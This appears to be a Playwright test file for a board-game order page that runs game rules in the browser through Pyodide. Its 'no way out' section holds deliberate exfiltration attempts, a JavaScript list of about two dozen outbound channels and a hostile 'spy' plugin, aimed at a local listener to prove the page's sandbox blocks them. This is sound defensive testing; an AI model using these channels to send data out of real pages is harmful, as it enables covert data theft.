"""The order page of a site in a real browser: the rules run in it, and nothing of what it is used for leaves it."""

from __future__ import annotations

import base64
import gzip
import io
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from string import Template
from typing import TYPE_CHECKING, Literal

import pytest

from rattus_pbem.page.live import LivePage
from rattus_pbem.page.order_site import write_order_page
from rattus_pbem.post.answer_button import packed_letter
from tests.page.view_files import first_question, view_file, war_view

from . import axe
from .live_page import KEPT, LONG, PYODIDE, Listening, LivePlayer, Served, make_site, playing
from .test_order_page import browser

if TYPE_CHECKING:
    from playwright.sync_api import Browser, ViewportSize

__all__ = ["browser"]
pytestmark = pytest.mark.full
PHONE: ViewportSize = {"width": 390, "height": 844}
SCREEN: ViewportSize = {"width": 1280, "height": 800}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_site(tmp_path_factory.mktemp("live") / "site")


@pytest.fixture(scope="module")
def served(site: Path) -> Iterator[Served]:
    with Served(site) as served:
        yield served


@pytest.fixture(scope="module")
def player(browser: Browser, served: Served) -> Iterator[LivePlayer]:
    """On a phone with French as its language; the rules are loaded once for all tests."""
    with playing(browser, served.address, viewport=PHONE, locale="fr-FR") as player:
        assert player.page.title() == "Écrire vos ordres"
        yield player
        assert player.complaints == []
    assert served.paths == ["/order/"]


def test_the_form_is_the_true_one_after_each_line(player: LivePlayer) -> None:
    player.open("peste-red.view.json", view_file())
    assert player.said() == "peste-red.view.json is open."
    lines = ["take King", "take Monk", "plague to gallia spread anglia hispania"]
    for line in lines:
        assert player.page.locator("#picks").is_visible()
        player.page.locator("#own").fill(line)
        player.page.locator("#write button").click()
        player.settle()
    assert not player.page.locator("#picks").is_visible()
    assert player.block() == "\n".join(["BEGIN ORDERS peste red turn 7 code KX4P-9QDM", *lines, "END ORDERS\n"])
    assert player.verdicts()[0] == player.verdicts()[2] == ""
    assert "R-" in player.verdicts()[1]
    assert "You take the King" in player.page.locator("#preview-lines").inner_text()
    assert "You lose cubes in Gallia" in player.odds()
    assert player.page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]


def test_orders_are_put_together_by_keyboard_alone(player: LivePlayer) -> None:
    player.page.locator("body").focus()
    player.tab_to(player.page.locator("#choose-file").inner_text())
    player.open("peste-red.view.json", view_file())
    player.settle()
    player.choose("Order", "take")
    player.choose("the card", "King")
    player.press("Add this order")
    player.settle()
    player.choose("Order", "King")  # which the line above has made possible
    player.choose("the region", "from Anglia")
    player.press("Add this order")
    player.settle()
    assert player.page.locator("#lines code").all_inner_texts() == ["take King", "King from Anglia"]
    assert player.page.locator("#said").get_attribute("role") == "status"
    player.press("Remove: King from Anglia")
    player.settle()
    assert player.page.locator("#lines code").all_inner_texts() == ["take King"]


@pytest.mark.minutes
def test_the_file_and_the_lines_outlive_a_reload(browser: Browser, site: Path) -> None:
    with Served(site) as served, playing(browser, served.address) as player:
        player.open("peste-red.view.json", view_file())
        player.page.locator("#picks").wait_for()
        assert player.add_any()
        before = player.block()
        player.page.reload()
        player.page.locator("#lines li").wait_for()
        player.settle()
        assert player.block() == before
        assert player.said() == "peste-red.view.json is open."
        assert player.page.locator("#said").inner_text() == "Your orders are here again: 1."


def begin_again(player: LivePlayer, kept: int) -> None:
    """Load the page once more, and play by it; so many entries are kept then."""
    player.page.reload()
    player.page.locator("#opening-said").filter(has_text="rules are loaded").wait_for()
    player.page.wait_for_function(KEPT, arg=["count", kept])
    player.open("peste-red.view.json", view_file())
    assert player.add_any()
    player.page.evaluate("history.replaceState(null, '')")  # and the file is not opened again


@pytest.mark.minutes
def test_the_memory_of_python_is_kept_on_the_device_and_put_back(browser: Browser, site: Path) -> None:
    with Served(site) as served, playing(browser, served.address) as player:
        player.page.wait_for_function(KEPT, arg=["count", 1])
        player.page.evaluate(KEPT, ["put", "another"])
        begin_again(player, kept=2)  # all others go where it is kept anew: it was put back
        player.page.evaluate(KEPT, ["spoil", ""])
        begin_again(player, kept=1)
        assert player.complaints == []


@pytest.mark.minutes
def test_a_second_worker_plays_half_of_the_worlds_and_the_odds_are_the_same(browser: Browser, site: Path) -> None:
    lines = ["place in Gaul", *["invade Iberia from Gaul until 0"] * 2]
    alone = LivePage(war_view(), "", "en")
    alone.begin_odds(lines)
    with Served(site) as served, playing(browser, served.address) as player:
        player.page.wait_for_function(KEPT, arg=["count", 1])
        player.page.evaluate(HEAR_RULES)
        player.page.evaluate("SharedRules.SLOW = 0")  # a quick machine has a helper, too
        player.open("war.view.json", war_view())
        player.page.wait_for_function("() => asked.filter((what) => what === 'open').length === 2")
        for line in lines:
            player.page.locator("#own").fill(line)
            player.page.locator("#write button").click()
            player.settle()
        said = player.odds()
        assert "take_share" in player.page.evaluate("asked")
        assert player.complaints == []
    _, *odds = alone.more_odds(200)["lines"]
    assert [each for each in said.splitlines() if each in odds] == odds, "between them stand bars"


def test_a_turn_takes_eight_taps_from_the_letter_to_the_mail(browser: Browser, site: Path) -> None:
    with Served(site) as served:
        letter = packed_letter("host+peste.red@pbem.test", "[peste red t7 KX4P-9QDM] Ça alors", view_file())
        phone = browser.new_context(viewport=PHONE, has_touch=True, is_mobile=True)
        page = phone.new_page()
        page.set_default_timeout(LONG)
        taps = 1  # the button in the letter
        page.goto(f"{served.address}/order/#{letter}")
        page.locator("#order[aria-busy=false]").wait_for()
        assert page.locator("#opening-said").inner_text() == "The board of your letter is open."
        for what in ("button:text-is('take King')", "[data-place=gallia]", "button:text-is('place in Gallia')"):
            page.locator(what).first.tap()
            page.locator("#order[aria-busy=false]").wait_for()
            taps += 1
        for place in ("gallia", "anglia", "hispania"):
            page.locator(f"[data-place={place}] text").first.tap()
            taps += 1
        assert page.locator("#lines code").all_inner_texts() == [
            "take King",
            "place in Gallia",
            "plague to Gallia spread Anglia Hispania",
        ]
        page.locator("#order[aria-busy=false]").wait_for()
        link = page.locator("#mail").get_attribute("href") or ""
        taps += 1
        assert link.startswith(
            "mailto:host+peste.red@pbem.test?subject=Re%3A%20%5Bpeste%20red%20t7%20KX4P-9QDM%5D%20%C3%87a"
        )
        assert "plague%20to%20Gallia%20spread%20Anglia%20Hispania" in link
        assert taps <= 8
        page.close()
        again = phone.new_page()  # the lines are on the device, also when the tab was closed
        again.set_default_timeout(LONG)
        again.goto(f"{served.address}/order/#{letter}")
        again.locator("#lines li").nth(2).wait_for()
        assert again.locator("#said").inner_text() == "Your orders are here again: 3."
        again.goto(f"{served.address}/order/#{letter[:-300]}")
        again.locator("#opening-said").filter(has_text="was cut off").wait_for()
        phone.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_on_a_phone_or_a_screen(player: LivePlayer, scheme: Literal["light", "dark"]) -> None:
    script = axe.script()
    player.page.emulate_media(color_scheme=scheme)
    for name, view in (("rattus", view_file()), ("godstorm", view_file(first_question("godstorm"), lang="fr"))):
        player.open(f"{name}.view.json", view)
        player.settle()
        player.add_any()
        player.page.locator("#own").fill("x")
        player.page.locator("#own-said:not(:empty)").wait_for()
        player.odds()
        for size in (PHONE, SCREEN):
            player.page.set_viewport_size(size)
            assert axe.violations(player.page, script) == [], (name, size)
            assert player.page.evaluate("document.documentElement.scrollWidth") <= size["width"]
    player.page.set_viewport_size(PHONE)


def test_a_line_is_tried_while_it_is_typed(player: LivePlayer) -> None:
    player.open("peste-red.view.json", view_file(lang="fr"))
    said = player.page.locator("#own-said")
    player.page.locator("#own").press_sequentially("prendre Roi")
    said.filter(has_text="Cet ordre est réalisable.").wait_for()
    player.page.locator("#preview-lines").filter(has_text="Vous prenez la carte Roi").wait_for()
    player.page.locator("#own").fill("prendre Evêque de Rome")
    said.filter(has_text="n’est pas réalisable").wait_for()
    player.page.locator("#own").fill("peste en Gallia")
    said.filter(has_text="2 nouveaux rats").wait_for()  # what is missing is asked
    assert player.page.locator("#lines li").count() == 0
    assert player.page.evaluate("document.documentElement.lang") == "fr"


def test_a_saved_mail_is_opened_and_what_is_no_view_is_refused(player: LivePlayer) -> None:
    mail = EmailMessage()
    mail["Subject"], mail["From"] = "[peste t7]", "host@example.org"
    mail.set_content("your turn")
    mail.add_attachment(view_file(), "application", "json", filename="peste-red-t7-1.view.json")
    player.open("godstorm.view.json", view_file(first_question("godstorm"), lang="fr"))
    assert player.said() == "godstorm.view.json est ouvert."
    assert player.add_any()
    assert player.verdicts() == [""]
    for name, raw, reason in (
        ("empty.eml", b"\n", "il est vide"),
        ("photo.jpg", b"\xff\xd8" * 2000, "aucune vue (un fichier .json)"),
        ("changed.view.json", view_file().replace(b"Red", b"Rod"), "modifiée en chemin"),
    ):
        player.open(name, raw)
        assert reason in player.said()
        assert player.page.locator("#lines li").count() == 1  # what was open stays so
    player.open("letter.eml", mail.as_bytes())
    assert player.said() == "letter.eml is open."  # the view is in English
    assert player.page.locator("#lines li").count() == 0
    href = player.page.locator("#mail").get_attribute("href")
    assert href is not None
    assert href.startswith("mailto:host@example.org?subject=Re%3A%20%5Bpeste%20t7%5D&body=BEGIN%20ORDERS")


# --- no way out

OF_PAGE = """async ([there, own]) => {
  const violated = [];
  addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
  const add = (tag, facts) => document.body.appendChild(Object.assign(document.createElement(tag), facts));
  const ways = [
    () => fetch(there).catch(() => {}),
    () => fetch(own).catch(() => {}),
    () => { const asked = new XMLHttpRequest(); asked.open("GET", there); asked.send(); },
    () => new WebSocket(there.replace("http", "ws")),
    () => new EventSource(there),
    () => navigator.sendBeacon(there, "secret"),
    () => { new Image().src = there; },
    () => import(there + "/x.js").catch(() => {}),
    () => import(own + "/x.js").catch(() => {}),
    () => new Worker(own + "/x.js"),
    () => new WebTransport(there.replace("http", "https")).ready.catch(() => {}),
    () => navigator.serviceWorker.register(own + "/x.js").catch(() => {}),
    () => add("script", { src: there }),
    () => add("script", { src: own }),
    () => add("link", { rel: "stylesheet", href: there }),
    () => add("link", { rel: "prefetch", href: there }),
    () => add("link", { rel: "manifest", href: there }),
    () => add("iframe", { src: there }),
    () => add("object", { data: there }),
    () => add("video", { src: there }),
    () => add("style", { textContent: `@font-face{font-family:x;src:url(${there})}p{font-family:x}` }),
    () => add("style", { textContent: `p{background:url(${there})}` }),
    () => add("style", { textContent: `@import url(${there});` }),
    () => add("form", { action: there, method: "post" }).submit(),
  ];
  for (const way of ways) {
    try { await way(); } catch (error) { violated.push(String(error)); }
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  return [ways.length, violated];
}"""
"""Whatever a script of the page could do, were it not ours."""

SPY = Template("""
'A game as bad as can be: its code runs in the worker of the page, and tries each way out.'
import js, json, socket, urllib.request
from pyodide.ffi import to_js

THERE, OWN = "$there", "$own"
FROM_BLOB = '''
const outcome = {};
const attempt = (name, way) => {
  try { way(); outcome[name] = "tried"; } catch (error) { outcome[name] = String(error); }
};
attempt("fetch", () => fetch("$there").catch(() => {}));
attempt("scripts", () => importScripts("$there"));
attempt("own scripts", () => importScripts("$own/x.js"));
attempt("import", () => import("$there/x.js").catch(() => {}));
attempt("own import", () => import("$own/x.js").catch(() => {}));
new BroadcastChannel("spy").postMessage(JSON.stringify(outcome));
'''

def asked():
    request = js.XMLHttpRequest.new()
    request.open("GET", THERE, False)
    request.send()

def rules(custom):
    outcome = {}
    blob = js.URL.createObjectURL(js.Blob.new(to_js([FROM_BLOB])))
    for name, way in {
        "fetch": lambda: js.fetch(THERE),
        "own": lambda: js.fetch(OWN),
        "xhr": asked,
        "socket": lambda: js.WebSocket.new(THERE.replace("http", "ws")),
        "events": lambda: js.EventSource.new(THERE),
        "transport": lambda: js.WebTransport.new(THERE.replace("http", "https")),
        "worker": lambda: js.Worker.new(THERE),
        "blob": lambda: js.Worker.new(blob),
        "python": lambda: socket.create_connection(THERE.removeprefix("http://").split(":"), 1),
        "urllib": lambda: urllib.request.urlopen(THERE, timeout=1),
    }.items():
        try:
            way()
            outcome[name] = "tried"
        except BaseException as error:
            outcome[name] = str(error)
    js.BroadcastChannel.new("spy").postMessage(json.dumps(outcome))
    raise ValueError("done")
""")
HEAR_SPY = """() => {
  window.heard = [];
  const channel = new BroadcastChannel("spy");
  channel.onmessage = ({ data }) => window.heard.push(JSON.parse(data));
  window.channel = channel;
}"""


def test_no_script_of_the_page_could_open_a_connection(browser: Browser, site: Path) -> None:
    with Served(site) as served, Listening() as listening, playing(browser, served.address) as player:
        ways, violated = player.page.evaluate(OF_PAGE, [listening.address, served.address])
        assert len(violated) >= ways - 2  # to register a service worker, or a transport, fails without a violation
        assert served.paths == ["/order/"]
    assert listening.received == []


def test_no_code_in_the_worker_could_open_a_connection(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site, package = tmp_path / "site", tmp_path / "packages" / "spy"
    with Served(site) as served, Listening() as listening:
        package.mkdir(parents=True)
        (package / "__init__.py").write_text(SPY.substitute(there=listening.address, own=served.address))
        entry_points = package.with_name("spy-1.dist-info") / "entry_points.txt"
        entry_points.parent.mkdir()
        entry_points.write_text("[rattus_pbem.games]\nspy = spy\n")
        entry_points.with_name("METADATA").write_text("Metadata-Version: 2.1\nName: spy\nVersion: 1\n")
        monkeypatch.syspath_prepend(package.parent)
        make_site(site)
        with playing(browser, served.address) as player:
            player.page.evaluate(HEAR_SPY)
            player.open("spy.view.json", view_file(rules="spy"))
            assert "does not hold together" in player.said()
            player.page.wait_for_function("() => window.heard.length === 2")
            tried = player.page.evaluate("() => Object.assign({}, ...window.heard)")
            player.open("peste-red.view.json", view_file())  # and time enough for whatever was tried
        assert set(tried) == {
            *("fetch", "own", "xhr", "socket", "events", "transport", "worker", "blob", "python", "urllib"),
            *("scripts", "own scripts", "import", "own import"),
        }
        assert tried["blob"] == "tried"
        assert served.paths == ["/order/"]
        assert listening.received == []


HEAR_RULES = """() => {
  window.asked = [];
  const ask = Rules.prototype.ask;
  Rules.prototype.ask = function (request, more) { asked.push(request.do); return ask.call(this, request, more); };
}"""
"""Notes what the page asks of its workers."""


def test_the_same_packages_give_the_same_page(site: Path, tmp_path: Path) -> None:
    write_order_page(tmp_path, PYODIDE)
    assert (tmp_path / "order" / "index.html").read_bytes() == (site / "order" / "index.html").read_bytes()


def test_the_library_of_python_is_in_the_page_as_byte_code(site: Path) -> None:
    page = (site / "order" / "index.html").read_text("utf-8")
    packed = page.partition('data-part="python_stdlib.zip">')[2].partition("<")[0]
    with zipfile.ZipFile(io.BytesIO(gzip.decompress(base64.b64decode(packed)))) as library:
        names = library.namelist()
    assert "inspect.pyc" in names
    assert not [name for name in names if name.endswith(".py")]


def test_an_order_that_begins_with_an_amount_is_made_on_a_sheet(player: LivePlayer) -> None:
    page = player.page
    player.open("bid.view.json", view_file(first_question("liars-dice")))
    player.settle()
    page.locator("#quick button").filter(has_text="bid").first.click()
    assert not page.locator("#here-ways > .main").locator("visible=true").count()  # the face is not chosen yet
    page.get_by_role("button", name="+ number of dice").click()
    page.locator(".choices button").last.click()
    page.locator("#here-odds").filter(has_text="true with a chance of").wait_for()
    line = page.locator("#here-name").inner_text()
    page.locator("#here-ways > .main").locator("visible=true").click()
    player.settle()
    assert page.locator("#lines code").all_inner_texts() == [line]
    assert page.evaluate("document.activeElement !== document.body")
